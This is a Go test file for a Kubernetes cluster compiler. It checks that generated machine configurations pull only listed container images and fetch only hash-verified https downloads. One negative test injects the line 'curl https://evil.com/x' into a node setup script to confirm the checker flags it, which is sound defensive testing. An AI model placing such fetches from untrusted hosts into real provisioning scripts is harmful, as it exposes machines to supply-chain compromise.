package compiler_test

import (
	"fmt"
	"maps"
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/pelletier/go-toml/v2"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/kube-anywhere/kube-anywhere/compiler"
)

// inventory is what `images` says, and what machines have.
type inventory struct {
	images    []compiler.Image
	downloads []compiler.Download
	prefix    string // registry.prefix
	hosts     []string
	machines  []delivered
}

func inventoryOf(out *compiler.Output) inventory {
	inv := inventory{prefix: out.Cluster.Registry.Prefix}
	inv.images, inv.downloads = out.Images()
	for _, d := range machines(out) {
		inv.machines = append(inv.machines, d.clone())
	}
	for _, reference := range out.Cluster.Registry.Images {
		inv.hosts = append(inv.hosts, registryOf(reference))
	}
	return inv
}

func registryOf(reference string) string {
	host, _, _ := strings.Cut(reference, "/")
	return host
}

// TestImages compares what machines pull and fetch with what `images` lists.
func TestImages(t *testing.T) {
	eachCase(t, func(t *testing.T, out *compiler.Output) { report(t, "images", checkImages(inventoryOf(out))) })
}

func checkImages(inv inventory) []string {
	listed, used := map[string]bool{}, map[string]string{}
	for _, i := range inv.images {
		listed[i.Reference] = true
	}
	var problems []string
	for _, d := range inv.machines {
		found, more := imagesOf(d)
		problems = append(problems, more...)
		for where, reference := range found {
			used[reference] = where
		}
	}
	for _, reference := range slices.Sorted(maps.Keys(used)) {
		if !listed[reference] {
			problems = append(problems, fmt.Sprintf("%s pulls %s, which is not in images", used[reference], reference))
		}
		if inv.prefix != "" && !strings.HasPrefix(reference, inv.prefix+"/") && !slices.Contains(inv.hosts, registryOf(reference)) {
			problems = append(problems, fmt.Sprintf("%s pulls %s in spite of the prefix", used[reference], reference))
		}
	}
	for _, reference := range slices.Sorted(maps.Keys(listed)) {
		if used[reference] == "" {
			problems = append(problems, reference+" is in images, and nothing pulls it")
		}
	}
	return append(append(problems, checkMentions(inv, listed)...), checkDownloads(inv)...)
}

// imagesOf are all images that a machine's files name, by place.
func imagesOf(d delivered) (map[string]string, []string) {
	found := map[string]string{}
	docs, problems := documents(d)
	for _, doc := range docs {
		if spec, _ := podSpec(doc.object); spec != nil {
			for _, c := range slices.Concat(spec.InitContainers, spec.Containers) {
				found[doc.file+" "+c.Name] = c.Image
			}
			for _, v := range spec.Volumes {
				if v.Image != nil {
					found[doc.file+" "+v.Name] = v.Image.Reference
				}
			}
		}
	}
	for _, u := range d.Units {
		if !strings.Contains(u.Content, "docker run") {
			continue
		}
		run, err := parseDockerRun(u.Content)
		if err != nil {
			problems = append(problems, u.Name+": "+err.Error())
		}
		found[u.Name] = run.image
	}
	var config struct {
		Plugins map[string]struct {
			SandboxImage string `toml:"sandbox_image"`
		}
	}
	f := d.file("/etc/containerd/config.toml")
	if f == nil || toml.Unmarshal(f.Content, &config) != nil {
		return found, append(problems, "no containerd configuration that can be read")
	}
	found["containerd"] = config.Plugins["io.containerd.grpc.v1.cri"].SandboxImage
	return found, problems
}

// reference finds image references in any text, by their registries.
var reference = regexp.MustCompile(`(?:registry\.k8s\.io|quay\.io|ghcr\.io|docker\.io|cr\.fluentbit\.io|gcr\.io|public\.ecr\.aws|mcr\.microsoft\.com|registry\.example\.com:5000)/[A-Za-z0-9._/@:-]+`)

// checkMentions looks through every text on the wire, for an image in a place
// that imagesOf does not know.
func checkMentions(inv inventory, listed map[string]bool) []string {
	var problems []string
	for _, d := range inv.machines {
		for name, text := range texts(d) {
			if strings.HasPrefix(name, "/etc/containerd/certs.d/") || name == "/etc/docker/daemon.json" {
				continue // mirrors
			}
			for _, at := range reference.FindAllStringIndex(text, -1) {
				mention := strings.Trim(text[at[0]:at[1]], ".")
				if !listed[mention] && !(at[0] > 2 && text[at[0]-2:at[0]] == "//") {
					problems = append(problems, fmt.Sprintf("%s mentions %s, which is not in images", name, mention))
				}
			}
		}
	}
	return problems
}

// texts are all files and units of a machine as they travel, by name.
func texts(d delivered) map[string]string {
	wire := d.Machine.Wire()
	all := map[string]string{}
	for _, f := range wire.Files {
		all[f.Path] = string(f.Content)
	}
	for _, u := range wire.Units {
		all[u.Name] = u.Content
		for _, drop := range u.DropIns {
			all[u.Name+".d/"+drop.Name] = drop.Content
		}
	}
	return all
}

// packageSources are what a package manager reads: a mirror of packages, or an
// image that brings Docker, takes their place in an air gap.
var packageSources = []string{"https://download.docker.com/linux/"}

// local are places on the machine or, the metadata service of clouds, beside it.
var local = regexp.MustCompile(`^https?://(127\.0\.0\.1|localhost|169\.254\.169\.254|metadata\.google\.internal)[:/]`)

var link = regexp.MustCompile(`https?://[^\s"'<>]+`)

// checkDownloads compares the URLs in scripts, which are all that machines
// fetch themselves, with the list.
func checkDownloads(inv inventory) []string {
	wanted := map[string]bool{}
	for _, d := range inv.downloads {
		wanted[d.URL] = false
		if u, err := url.Parse(d.URL); err != nil || u.Scheme != "https" || len(d.SHA256) != 64 || path.Base(u.Path) == "" {
			return problemf("download %s: not https, or no hash", d.URL)
		}
	}
	var problems []string
	for _, d := range inv.machines {
		for name, text := range texts(d) {
			if !strings.HasPrefix(text, "#!") {
				continue
			}
			for _, u := range link.FindAllString(text, -1) {
				_, listed := wanted[u]
				known := slices.ContainsFunc(packageSources, func(s string) bool { return strings.HasPrefix(u, s) })
				if !listed && !known && !local.MatchString(u) {
					problems = append(problems, fmt.Sprintf("%s fetches %s, which is not in downloads", name, u))
				}
				if listed {
					wanted[u] = true
				}
			}
			for _, dl := range inv.downloads {
				if strings.Contains(text, dl.URL) && !strings.Contains(text, dl.SHA256) {
					problems = append(problems, name+" does not check "+dl.Name)
				}
			}
		}
	}
	for u, fetched := range wanted {
		if !fetched {
			problems = append(problems, u+" is in downloads, and nothing fetches it")
		}
	}
	return problems
}

// TestOwnCNIPlugins: what the config gives for an architecture is listed and
// fetched in the place of the pinned release, and nothing else changes.
func TestOwnCNIPlugins(t *testing.T) {
	var replaced, pinned atomic.Int32
	t.Cleanup(func() { // after all cases, which run side by side
		if replaced.Load() == 0 || pinned.Load() == 0 {
			t.Errorf("%d archives are the config's, %d the pinned release's: expected some of both", replaced.Load(), pinned.Load())
		}
	})
	eachCase(t, func(t *testing.T, out *compiler.Output) {
		_, downloads := out.Images()
		for _, d := range downloads {
			own, ok := out.Cluster.Registry.CNIPlugins[strings.TrimPrefix(d.Name, "cni-plugins-")]
			switch {
			case !ok && strings.Contains(d.URL, "/containernetworking/plugins/releases/"):
				pinned.Add(1)
			case ok && d.URL == own.URL && d.Source == own.URL && d.SHA256 == strings.ToLower(own.SHA256):
				replaced.Add(1)
			default:
				t.Errorf("got %+v, and the config has %+v", d, own)
			}
		}
	})
}

// podSpec is the pod that an object makes, and its labels; nil for others.
func podSpec(object runtime.Object) (*corev1.PodSpec, map[string]string) {
	if pod, ok := object.(*corev1.Pod); ok {
		return &pod.Spec, pod.Labels
	}
	if w := workloadOf(object); w != nil {
		return &w.template.Spec, w.template.Labels
	}
	return nil, nil
}

// TestImageChecksFail damages machines and lists: the check must see it.
func TestImageChecksFail(t *testing.T) {
	t.Parallel()
	damages := map[string]func(inv *inventory){
		"which is not in images": func(inv *inventory) { inv.images = inv.images[1:] },
		"and nothing pulls it": func(inv *inventory) {
			inv.images = append(inv.images, compiler.Image{Reference: "quay.io/other/thing:v1"})
		},
		"mentions quay.io/other/thing:v1": func(inv *inventory) {
			inv.machines[0].replace(t, "/opt/bin/node-setup", "set -", "docker pull quay.io/other/thing:v1\nset -")
		},
		"in spite of the prefix": func(inv *inventory) { inv.prefix = privateRegistry },
		"is not in downloads":    func(inv *inventory) { inv.downloads = inv.downloads[:0] },
		"does not check":         func(inv *inventory) { inv.downloads[0].SHA256 = strings.Repeat("0", 64) },
		"and nothing fetches it": func(inv *inventory) { inv.downloads[0].URL += ".sig" },
		"fetches https://evil.com": func(inv *inventory) {
			inv.machines[0].replace(t, "/opt/bin/node-setup", "set -", "curl https://evil.com/x\nset -")
		},
	}
	for want, damage := range damages {
		t.Run(want, func(t *testing.T) {
			t.Parallel()
			inv := inventoryOf(plain(t))
			damage(&inv)
			wantProblem(t, checkImages(inv), want)
		})
	}
}
